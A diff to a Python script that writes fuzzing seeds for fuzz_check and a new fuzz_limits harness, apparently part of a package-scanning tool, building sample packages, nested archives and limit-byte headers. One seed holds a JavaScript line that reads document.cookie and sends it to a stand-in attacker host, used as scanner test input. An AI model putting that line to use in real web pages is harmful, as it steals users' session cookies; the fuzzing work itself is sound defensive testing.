@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
-"""Write the seeds of fuzz_check: small packages with their source in front, as fuzz_check.c lays them out.
+"""Write the seeds of fuzz_check and fuzz_limits: small packages with their source in front, as fuzz_check.c and fuzz_limits.c lay them out.
 
-usage: fuzz/make-check-seeds.py   Writes fuzz/seeds/check/.
+usage: fuzz/make-check-seeds.py   Writes fuzz/seeds/check/ and fuzz/seeds/limits/.
 """
 import pathlib
 import struct
@@ -41,7 +41,33 @@ def seeds():
     yield "static-library", script, made.ar(library)
 
 
-for name, source, package in seeds():
-    path = FUZZ / "seeds/check" / name
+LIMITS = ("input", "unpacked", "file", "program", "functions", "tokens", "ratio", "entries", "depth", "name")
+
+
+def tiny():
+    """Each limit alone, at nothing and at a little; then a few together."""
+    script = made.SCRIPT.encode()
+    planted = made.package().set("usr/bin/greet", script[:10] + LINE + script[10:]).build()
+    source = made.gz(made.tar({"greet-1.0/" + name: value for name, value in made.source().items()}))
+    program = (FUZZ / "seeds/elf/made-x86-64").read_bytes()
+    nested = made.gz(made.gz(made.tar({"a": LINE, "b/" + "n" * 90: script})))
+    web = b"var a = document.cookie; fetch('https://evilcorp.invalid/' + a);\n" * 3
+    for at, limit in enumerate(LIMITS):
+        subject = {"program": program, "functions": program, "tokens": web, "depth": nested, "ratio": made.gz(bytes(9000))}.get(limit, planted)
+        for byte in (1, 2, 30):
+            yield f"{limit}-{byte}", bytes(byte if i == at else 0 for i in range(len(LIMITS))), source, subject
+    yield "none", bytes(len(LIMITS)), source, planted
+    yield "honest", bytes((0, 0, 0, 0, 0, 0, 0, 9, 0, 0)), source, made.package().build()
+    yield "all", bytes((200, 90, 90, 30, 3, 20, 200, 9, 5, 12)), source, nested
+
+
+def write(folder, name, data):
+    path = FUZZ / "seeds" / folder / name
     path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_bytes(struct.pack("<I", len(source)) + source + package)
+    path.write_bytes(data)
+
+
+for name, source, package in seeds():
+    write("check", name, struct.pack("<I", len(source)) + source + package)
+for name, limits, source, package in tiny():
+    write("limits", name, limits + struct.pack("<I", len(source)) + source + package)
